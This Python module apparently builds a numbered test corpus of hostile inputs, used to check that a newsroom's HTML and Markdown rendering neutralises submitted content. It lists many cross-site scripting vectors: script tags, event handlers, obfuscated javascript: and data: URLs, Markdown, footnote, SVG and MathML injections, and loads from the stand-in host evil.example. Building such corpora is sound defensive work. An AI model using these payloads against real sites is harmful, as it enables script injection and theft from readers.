"""A corpus of hostile texts, made from families: what people send to newsrooms to make pages act.

In each, RUN stands for a call that tells it has run, AWAY for an address on another host, HERE for
one on our own that nothing of ours asks for; `CORPUS` has them numbered.
"""

from dataclasses import dataclass

# Of this host and this path nothing may ever be asked for.
ELSEWHERE, REACHED = "evil.example", "reached-by-a-payload"


@dataclass(frozen=True)
class Payload:
    """One text; `is_words` when it is no markup at all, only words that try to be more."""

    number: int
    family: str
    text: str
    is_words: bool = False


def lines(text: str) -> list[str]:
    """One payload a line, in which a written escape stands for its character."""
    told = text.split("\n")
    for written, meant in ((r"\n", "\n"), (r"\t", "\t"), (r"\x0c", "\x0c")):
        told = [one.replace(written, meant) for one in told]
    return told


SCRIPTS = lines(r"""<script>RUN</script>
before <script>RUN</script> after
<ScRiPt>RUN</sCrIpT>
<script src=AWAY></script>
<script src="HERE"></script>
<script type=module>RUN</script>
<script type=module src=AWAY></script>
<script async src=https:AWAY></script>
<script/x>RUN</script>
<script\t>RUN</script >
<script\n>RUN</script\n>
<script>RUN
<<script>RUN//<</script>
<scr<script>ipt>RUN</scr</script>ipt>
</script><script>RUN</script>
<script>/*</script><script>*/RUN</script>
<script><!--\nRUN\n--></script>
<script type="application/json">{}</script><script>RUN</script>
<script type=importmap>{"imports":{"x":"AWAY"}}</script>
<script type=speculationrules>{"prefetch":[{"source":"list","urls":["HERE"]}]}</script>
<script\x0c>RUN</script>
<noscript><script>RUN</script></noscript>
<template><script>RUN</script></template><script>RUN</script>
<div><script>RUN</script></div>""")

ACTS = (
    "abort animationend animationstart auxclick beforeinput beforetoggle blur canplay change click"
    " contextmenu copy cut dblclick drag dragenter drop error focus focusin hashchange input"
    " keydown keyup load mousedown mouseenter mouseover mousewheel pageshow paste pointerdown"
    " pointerenter pointerover popstate resize scroll select submit toggle touchstart"
    " transitionend wheel"
).split()
ELEMENTS = (
    "<p {}>x</p>", "<img src=HERE {}>", "<a href=/ {}>x</a>", "<em {}>x</em>", "<body {}>",
    "<svg {}><circle r=9 /></svg>", "<details open {}><summary>x</summary>y</details>",
    "<input autofocus {}>", "<button autofocus {}>x</button>", "<h2 {}>x</h2>",
    "<marquee {}>x</marquee>", "<video src=HERE {}></video>", "<table><tr><td {}>x</table>",
)  # fmt: skip
ATTRIBUTES = ("on{}=RUN", 'on{}="RUN"', "ON{}='RUN'", "on{} =\nRUN", "/on{}=RUN/")
HANDLERS = [
    ELEMENTS[n % len(ELEMENTS)].format(ATTRIBUTES[n % len(ATTRIBUTES)].format(act))
    for n, act in enumerate(ACTS)
] + [
    "words <img src=x onerror=RUN> words",
    "<img src=x onerror=&#114;an&lpar;0&rpar;>",
    "<img/src=x/onerror=RUN>",
    '<img src="x"onerror="RUN">',
    "<img src=x onerror\x0c=RUN>",
    "*<img src=x onerror=RUN>*",
    "- <b tabindex=1 autofocus onfocus=RUN>x</b>",
]

SCRIPT_ADDRESSES = [
    "javascript:RUN", "JaVaScRiPt:RUN", "javascript&colon;RUN", "java&Tab;script:RUN",
    "java&NewLine;script:RUN", "&#106;avascript:RUN", "&#x6A;avascript:RUN",
    "&#0000106avascript:RUN",
    "\x01javascript:RUN", "&#1;javascript:RUN", "javascript://evil.example/%0aRUN",
    "javascript:/**/RUN",
    "javascript:void(RUN)", "javascript\\:RUN", "javascript:%52UN", "vbscript:RUN",
    "data:text/html,<script>RUN</script>", "data:text/html;base64,PHNjcmlwdD5yYW4oMCk8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>",
    "feed:javascript:RUN", "view-source:javascript:RUN", "jar:javascript:RUN", "livescript:RUN",
    "blob:https:AWAY", "filesystem:https:AWAY", "file:///etc/passwd", "intent:AWAY#Intent;end",
]  # fmt: skip
LINKS = [
    form.format(address)
    for address in SCRIPT_ADDRESSES
    for form in ('<a href="{}">x</a>', "[x](<{}>)", "[x]\n\n[x]: <{}>", "<{}>")
]

MARKDOWN = lines(r"""[x](AWAY)
[x](/\evil.example/)
[x](\\evil.example/)
[x](http:/\evil.example/)
![x](https:AWAY)
![x](AWAY)
![x](HERE)
![x](data:image/svg+xml,<svg/onload=RUN>)
![x](javascript:RUN)
![x](/media/../HERE)
![x](/media/0123456789abcdef-480x320.webp?AWAY)
![x](/media/0123456789abcdef-480x320.webp#https:AWAY)
[![x](https:AWAY)](javascript:RUN)
![x" onerror="RUN](/media/0123456789abcdef-480x320.webp)
![x](/media/0123456789abcdef-480x320.webp 'a" onerror="RUN')
[x](https://example.org/"onmouseover="RUN)
[x](https://example.org 'a" onclick="RUN')
[x](/ "a' onclick='RUN")
[x](https://example.org/<script>RUN</script>)
[<img src=x onerror=RUN>](/)
# <img src=x onerror=RUN>
> <script>RUN</script>
- <iframe src=HERE></iframe>
| a |\n|---|\n| <img src=x onerror=RUN> |
| a |\n|:-"onclick=RUN-:|\n| b |
```" onload=RUN\nx\n```
```html\n<script>RUN</script>\n```
`<script>RUN</script>`
\<script>RUN</script>
<https://example.org/"onclick="RUN>
<x"onclick=RUN@example.org>
<!-- --><img src=x onerror=RUN> -->
[x]: javascript:RUN "y"\n\n[x] ![x]
[a](b "c\n\n<img src=x onerror=RUN>")""")

FOOTNOTES = lines(r"""x[^1]\n\n[^1]: <img src=x onerror=RUN>
x[^1]\n\n[^1]: [y](javascript:RUN)
x[^1]\n\n[^1]: ![y](https:AWAY)
x[^1]\n\n[^1]: <script>RUN</script>
x^[<img src=x onerror=RUN>]
x^[[y](javascript:RUN)]
x^[![y](AWAY)]
x[^"onclick="RUN]\n\n[^"onclick="RUN]: y
x[^'><script>RUN</script>]\n\n[^'><script>RUN</script>]: y
x[^1][^1]\n\n[^1]: > <svg onload=RUN>""")

VECTORS = lines(r"""<svg><script>RUN</script></svg>
<svg><script href=AWAY /></svg>
<svg><script xlink:href="HERE"></script></svg>
<svg><image href=AWAY /></svg>
<svg><image xlink:href="https:AWAY"/></svg>
<svg><use href="AWAY#x"/></svg>
<svg><use href="data:image/svg+xml,<svg id='x'><a href='javascript:RUN'/></svg>#x"/></svg>
<svg><a xlink:href="javascript:RUN"><text y=9>x</text></a></svg>
<svg><a><animate attributeName=href values=javascript:RUN /><text y=9>x</text></a></svg>
<svg><animate onbegin=RUN attributeName=x dur=1s>
<svg><set attributeName=onmouseover to=RUN>
<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>
<svg><style>@import 'AWAY'</style></svg>
<svg><feImage href=AWAY /></svg>
<svg><a href=javascript:RUN><rect width=9 height=9 /></a></svg>
<svg><title><img src=x onerror=RUN></title></svg>
<svg><desc><script>RUN</script></desc></svg>
<svg xmlns:xlink=x><script xlink:href=AWAY /></svg>
<svg fill="url(https:AWAY)"><rect width=9 height=9 fill="url(AWAY)"/></svg>
<math href=javascript:RUN>x</math>
<math><mi xlink:href=javascript:RUN>x</mi></math>
<math><maction actiontype=statusline xlink:href=javascript:RUN>x</maction></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=RUN></annotation-xml></math>""")
